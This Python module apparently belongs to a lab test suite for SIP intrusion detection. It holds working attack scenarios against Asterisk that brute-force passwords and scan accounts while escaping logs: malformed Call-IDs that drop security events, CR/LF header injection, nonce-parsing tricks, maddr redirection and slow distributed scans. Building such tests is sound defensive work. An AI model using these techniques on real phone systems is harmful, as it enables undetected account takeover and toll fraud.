"""Attacks made so that no log, or no pattern, shows them."""
import re

import sip
from lab import WORLD
from scene import attack

GROUP = "Hidden attacks"
SLOW = "0.5 requests a second for 60 s; in the field it goes on for days"


for _transport in ("udp", "tcp", "tls"):
    def _invisible(scene, transport=_transport):
        scene.each_on_its_own(lambda line, n: line.log_in("REGISTER", scene.account, f"guess{n}", call_id=f"a)\xff{sip.fresh()}"), transport=transport)
    attack(f"invisible-{_transport}", GROUP, f"brute force over {_transport.upper()} whose Call-ID is not UTF-8: Asterisk drops the security event")(_invisible)


@attack("invisible-from", GROUP, "unknown accounts with %ff in the From user: the security event is dropped")
def _(scene):
    scene.each_on_its_own(lambda line, n: line.log_in("REGISTER", f"7{n}%ff", "1234"))


@attack("parenthesis", GROUP, "brute force with ) in the Call-ID")
def _(scene):
    scene.each_on_its_own(lambda line, n: line.log_in("REGISTER", scene.account, f"guess{n}", call_id=f"a) {sip.fresh()}"))


@attack("line-end-in-user", GROUP, "unknown accounts with %0a in the From user: the security record is two lines")
def _(scene):
    scene.each_on_its_own(lambda line, n: line.ask("REGISTER", f"%0a{7000 + n}"))


@attack("register-long-from", GROUP, "brute force over TCP with a From longer than the 512 bytes of Asterisk's notice, and a Call-ID that is not UTF-8")
def _(scene):
    scene.each_on_its_own(lambda line, n: line.log_in("REGISTER", scene.account, f"guess{n}", call_id=f"a)\xff{sip.fresh()}",
                                                      sender=f"<sip:{scene.account}@{WORLD};x={'A' * 600}>;tag={sip.fresh()}"), transport="tcp")


@attack("quote-in-response", GROUP, "wrong passwords whose digest response holds an escaped quote")
def _(scene):
    def once(line, n):
        first = line.ask("REGISTER", scene.account)
        if first is None or first.status != 401:
            return first
        authorization = sip.digest(first, "REGISTER", f"sip:{WORLD}", scene.account, f"guess{n}").replace('response="', 'response="\\"', 1)
        return line.ask("REGISTER", scene.account, cseq=2, authorization=authorization)
    scene.each_on_its_own(once)


@attack("compact-folded", GROUP, "brute force with compact header names and folded lines")
def _(scene):
    def short(data):
        for long, compact in ((b"\r\nVia: ", b"\r\nv:\r\n "), (b"\r\nFrom: ", b"\r\nf: "), (b"\r\nTo: ", b"\r\nt:\r\n\t"), (b"\r\nCall-ID: ", b"\r\ni: "),
                              (b"\r\nContact: ", b"\r\nm: "), (b"\r\nContent-Length: ", b"\r\nl: "), (b", nonce", b",\r\n nonce")):
            data = data.replace(long, compact, 1)
        return data

    def once(line, n):
        build = line.line.message
        line.line.message = lambda *rest, **named: short(build(*rest, **named))
        return line.log_in("REGISTER", scene.account, f"guess{n}")
    scene.each_on_its_own(once)


def nonce_written(name, what, how):
    """Asterisk reads the nonce all the same: with the right password it answers 200."""
    def once(scene, line):
        first = line.ask("REGISTER", scene.account)
        if first is None or first.status != 401:
            return first
        authorization = sip.digest(first, "REGISTER", f"sip:{WORLD}", scene.account, "guess")
        written = re.sub(r'(?<=,)nonce="([^"]+)"', lambda nonce: how.format(nonce[1]), authorization)
        return line.ask("REGISTER", scene.account, cseq=2, authorization=written)
    attack(name, GROUP, what)(lambda scene: scene.each_on_its_own(lambda line, _: once(scene, line)))


nonce_written("register-nonce-blanks", "brute force over UDP with blanks around the = of the nonce, over two lines", '\r\n nonce\r\n =\r\n "{}"')
nonce_written("register-nonce-decoy", "brute force over UDP with a decoy before the nonce: a quoted value that holds another", 'x=" nonce=",nonce="{}"')
nonce_written("register-nonce-line-end", "brute force over UDP with a CR in a quoted value before the nonce: to the PBX the header goes on", 'x="\r\r",nonce="{}"')
nonce_written("register-nonce-nul", "brute force over UDP with a NUL behind the nonce: the PBX compares what stands before it", 'nonce="{}\0"')


def repeated(name, what, written, transport="udp"):
    """The PBX repeats it in its answer, before its own words."""
    def run(scene):
        scene.each_on_its_own(lambda line, n: line.log_in("REGISTER", scene.account, f"guess{n}", to=written.format(f"sip:{scene.account}@{WORLD}")), transport=transport)
    attack(name, GROUP, what)(run)


repeated("stale-in-to", "brute force over UDP with stale=true in a challenge of one's own, behind a CR in the name in To", '"\rWWW-Authenticate: Digest stale=true\r" <{}>')
repeated("empty-line-in-to", "brute force over UDP with an empty line in the brackets of the host in To: the PBX's answer seems to end there", "<sip:1001@[\r\n\r\n]>")
repeated("cseq-in-to", "brute force over TCP with a CSeq of one's own behind a CR in the name in To", '"\rCSeq: 9 X\r" <{}>', transport="tcp")


def answered_nowhere(name, where, what):
    """Asks, and has the answer to his guess sent where he does not read it himself: that the password was right shows in the contact that it registers."""
    def once(scene, line, n):
        first = line.ask("REGISTER", scene.account)
        if first is not None and first.status == 401:
            guess = line.line.message("REGISTER", scene.account, call_id=f"a)\xff{sip.fresh()}", cseq=2,
                                      authorization=sip.digest(first, "REGISTER", f"sip:{WORLD}", scene.account, f"guess{n}"))
            line.send(guess.replace(b";rport", f";maddr={where};rport".encode(), 1))
        return first
    attack(name, GROUP, what)(lambda scene: scene.each_on_its_own(lambda line, n: once(scene, line, n)))


answered_nowhere("register-answered-itself", "127.0.0.1", "brute force over UDP whose answers the PBX sends to itself (maddr=127.0.0.1), with a Call-ID that is not UTF-8; counted is who is challenged")
answered_nowhere("register-answered-nowhere", "nobody.invalid", "the same with a name that has no address: the PBX checks the password and sends no answer")


@attack("empty-line-in-via", GROUP, "brute force over UDP with an empty line in the brackets of the host in Via: no header of the PBX's answer seems to be one")
def _(scene):
    def once(line, n):
        build = line.line.message
        line.line.message = lambda *rest, **named: build(*rest, **named).replace(b"SIP/2.0/UDP ", b"SIP/2.0/UDP [x\r\n\r\n]:5060;x=", 1)
        return line.log_in("REGISTER", scene.account, f"guess{n}")
    scene.each_on_its_own(once)


@attack("log-in-between", GROUP, "brute force, and after every third guess a login with an account of one's own",
        because="An office behind one address, one phone of which has an old password, looks the same and must not be banned: it is told, once a day.")
def _(scene):
    def once(line, n):
        return line.log_in("REGISTER", "1010", "Lab-1010-w7Kq3Vz") if n % 4 == 3 else line.log_in("REGISTER", scene.account, f"guess{n}")
    scene.each_on_its_own(once)


@attack("slow-scan", GROUP, "unknown accounts, one every 2 s, challenge not answered, where endpoint_identifier_order has auth_username: Asterisk says nothing",
        pbx="auth_username", scaled=SLOW)
def _(scene):
    scene.each_on_its_own(lambda line, n: line.ask("REGISTER", f"{7000 + n}"), seconds=60, per_second=0.5)


@attack("slow-scan-options", GROUP, "the same with OPTIONS", pbx="auth_username", scaled=SLOW)
def _(scene):
    scene.each_on_its_own(lambda line, n: line.ask("OPTIONS", f"{7000 + n}"), seconds=60, per_second=0.5)


@attack("slow-scan-network", GROUP, "the same from four addresses of one /24 in turn", pbx="auth_username", scaled=SLOW)
def _(scene):
    def once(n):
        with scene.connection(f"198.18.{scene.number}.{10 + n % 4}") as line:
            return line.ask("REGISTER", f"{7000 + n}") is not None
    scene.repeat(once, f"198.18.{scene.number}.10", seconds=60, per_second=0.5)
    scene.suspects.update(f"198.18.{scene.number}.{10 + n}" for n in range(4))


@attack("slow-password", GROUP, "brute force of a password, a guess every 2 s, with auth_username on", pbx="auth_username", scaled=SLOW)
def _(scene):
    scene.each_on_its_own(lambda line, n: line.log_in("REGISTER", scene.account, f"guess{n}"), seconds=60, per_second=0.5)


@attack("scan-auth-username", GROUP, "unknown accounts, five a second, with auth_username on", pbx="auth_username")
def _(scene):
    scene.each_on_its_own(lambda line, n: line.ask("REGISTER", f"{7000 + n}"))
